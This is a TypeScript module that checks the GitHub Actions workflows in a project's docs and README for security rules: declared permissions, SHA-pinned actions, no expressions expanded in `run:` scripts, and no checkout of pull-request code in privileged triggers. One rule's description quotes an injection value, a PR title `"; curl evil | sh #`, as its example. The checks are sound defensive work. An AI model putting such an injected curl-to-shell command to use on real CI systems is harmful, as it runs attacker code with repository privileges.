/**
 * The GitHub workflows users copy — docs/workflows/*.yml, the repository's own .github/workflows/*.yml, and
 * the ```yaml blocks of README.md and docs/*.md that hold a `jobs:` — and the rules each must keep. Shared by the test
 * and by scripts/adversarial-table.ts, so the README lists exactly the files the test checked.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'yaml';
import type { DeclaredCase } from './declared.js';

const root = fileURLToPath(new URL('../../', import.meta.url));

/** Third-party actions the docs may use, each at the one commit that was verified. */
export const VERIFIED_PINS: Record<string, string> = {
  'actions/checkout': '11bd71901bbe5b1630ceea73d27597364c9af683', // v4.2.2
  'actions/setup-node': '49933ea5288caeca8642d1e84afbd3f7d6820020', // v4.4.0
  'actions/upload-artifact': 'ea165f8d65b6e75b540449e92b4886f43607fa02', // v4.6.2
  'actions/download-artifact': 'd3f86a106a0bac45b974a628896c90dbdf5c8093', // v4.3.0
  'github/codeql-action/upload-sarif': '5d4e8d1aca955e8d8589aabd499c5cae939e33c7', // v4.31.9
};

/** labelguard's own action: no release commit exists to pin to yet, so a version tag is accepted. */
const FIRST_PARTY = /^labelguard\/labelguard@v\d+(\.\d+){0,2}$/;

/** A workflow as users would copy it. */
export interface WorkflowSource {
  /** `docs/workflows/labelguard.yml`, or `docs/events.md, “Permissions, forks and pull_request_target”`. */
  name: string;
  text: string;
}

/** Every workflow the test checks, in a fixed order. */
export function workflowSources(): WorkflowSource[] {
  const files = (dir: string) =>
    readdirSync(join(root, dir))
      .filter((f) => /\.ya?ml$/.test(f))
      .sort()
      .map((f) => ({ name: `${dir}/${f}`, text: readFileSync(join(root, dir, f), 'utf8') }));
  const pages = ['README.md', ...readdirSync(join(root, 'docs')).filter((f) => f.endsWith('.md')).sort().map((f) => `docs/${f}`)];
  const blocks = pages.flatMap((page) => workflowBlocks(page, readFileSync(join(root, page), 'utf8')));
  return [...files('docs/workflows'), ...files('.github/workflows'), ...blocks];
}

/** The ```yaml blocks of a Markdown page that hold a `jobs:`, named after the section they stand in. */
function workflowBlocks(page: string, text: string): WorkflowSource[] {
  const blocks: WorkflowSource[] = [];
  const seen = new Map<string, number>();
  for (const m of text.matchAll(/^```ya?ml[^\n]*\n([\s\S]*?)^```$/gm)) {
    if (!/^jobs:/m.test(m[1]!)) continue;
    // Named after the section it stands in (stable when the page grows), numbered within it.
    const before = text.slice(0, m.index).replace(/^```[\s\S]*?^```$/gm, ''); // `# comments` in code are no headings
    const heading = ([...before.matchAll(/^#+ (.+)$/gm)].at(-1)?.[1] ?? 'top').replace(/`/g, '');
    const n = (seen.get(heading) ?? 0) + 1;
    seen.set(heading, n);
    blocks.push({ name: `${page}, “${heading}”${n > 1 ? ` (${n})` : ''}`, text: m[1]! });
  }
  return blocks;
}

type Json = Record<string, unknown>;
const obj = (v: unknown): Json => (typeof v === 'object' && v !== null && !Array.isArray(v) ? (v as Json) : {});

interface Step {
  job: string;
  uses?: string;
  run?: string;
  with: Json;
}

function steps(workflow: Json): Step[] {
  return Object.entries(obj(workflow.jobs)).flatMap(([job, j]) =>
    (Array.isArray(obj(j).steps) ? (obj(j).steps as unknown[]) : []).map((s) => {
      const step = obj(s);
      return {
        job,
        ...(typeof step.uses === 'string' && { uses: step.uses }),
        ...(typeof step.run === 'string' && { run: step.run }),
        with: obj(step.with),
      };
    }),
  );
}

/** The events a workflow runs on. */
function events(workflow: Json): string[] {
  // YAML 1.1 readers turn a bare `on:` into `true`; the yaml package (1.2) keeps the key.
  const on = workflow.on;
  if (typeof on === 'string') return [on];
  if (Array.isArray(on)) return on.map(String);
  return Object.keys(obj(on));
}

/** One rule every copied workflow keeps, with what it checks. */
export interface WorkflowRule extends DeclaredCase {
  /** The problems of one workflow under this rule (empty: it keeps the rule). */
  check: (workflow: Json) => string[];
}

// Contexts a pull request's author controls, which must never be expanded inside a shell script.
const untrusted =
  /github\.head_ref|github\.event\.(pull_request|issue|comment|review|review_comment|discussion|pages|commits|head_commit|workflow_run)\b/;

export const workflowRules: WorkflowRule[] = [
  {
    id: 'permissions',
    input: '`permissions:` at the top or on every job; never `write-all`',
    expected: 'declared: the token gets only what the workflow names',
    check: (w) => {
      const jobs = Object.entries(obj(w.jobs));
      const declared = 'permissions' in w || (jobs.length > 0 && jobs.every(([, j]) => 'permissions' in obj(j)));
      const all = [w.permissions, ...jobs.map(([, j]) => obj(j).permissions)];
      return [
        ...(declared ? [] : ['no permissions: declared (the token would get the repository default)']),
        ...(all.some((p) => p === 'write-all') ? ['permissions: write-all'] : []),
      ];
    },
  },
  {
    id: 'pinned',
    input: 'every third-party `uses:` pinned to a full 40-hex commit SHA, one of the verified pins',
    expected: 'pinned (labelguard’s own action and local `./` actions excepted)',
    check: (w) =>
      steps(w).flatMap((s) => {
        if (!s.uses || s.uses.startsWith('./') || s.uses.startsWith('docker://') || FIRST_PARTY.test(s.uses)) return [];
        const m = /^([\w.-]+\/[\w.-]+(?:\/[\w./-]+)?)@([0-9a-f]{40})$/.exec(s.uses);
        if (!m) return [`${s.job}: \`${s.uses}\` is not pinned to a commit SHA`];
        return VERIFIED_PINS[m[1]!] === m[2] ? [] : [`${s.job}: \`${s.uses}\` is not a verified pin`];
      }),
  },
  {
    id: 'no-expressions-in-run',
    input: 'no `${{ … }}` inside `run:` (titles, branch names, outputs reach the shell through `env:`)',
    expected: 'no script injection: a PR title such as `"; curl evil | sh #` stays data',
    check: (w) =>
      steps(w).flatMap((s) => {
        if (!s.run?.includes('${{')) return [];
        return [`${s.job}: \`run:\` expands ${untrusted.test(s.run) ? 'untrusted pull-request text' : 'an expression'} in the shell`];
      }),
  },
  {
    id: 'no-pull-request-checkout',
    input: '`pull_request_target` and `workflow_run`: no checkout of the pull request’s head',
    expected: 'the privileged job never checks out or runs pull-request code',
    check: (w) => {
      if (!events(w).some((e) => e === 'pull_request_target' || e === 'workflow_run')) return [];
      return steps(w).flatMap((s) => {
        if (!s.uses?.startsWith('actions/checkout@')) return [];
        const text = (v: unknown) => (typeof v === 'string' ? v : '');
        const target = `${text(s.with.ref)} ${text(s.with.repository)}`;
        return /head|github\.event|github\.head_ref/.test(target) ? [`${s.job}: checks out ${target.trim()}`] : [];
      });
    },
  },
];

/** Every workflow parsed, with its problems per rule. */
export function workflowProblems(): { source: WorkflowSource; problems: Record<string, string[]> }[] {
  return workflowSources().map((source) => {
    const workflow = obj(parse(source.text) as unknown);
    return { source, problems: Object.fromEntries(workflowRules.map((r) => [r.id, r.check(workflow)])) };
  });
}

/**
 * Problems of README examples that the README's own authors must fix (this suite may not edit those
 * sections). Listed so that the test passes today and fails — forcing this list to shrink — once fixed.
 */
export const knownReadmeGaps: { block: RegExp; rule: string; problem: RegExp; why: string }[] = [];
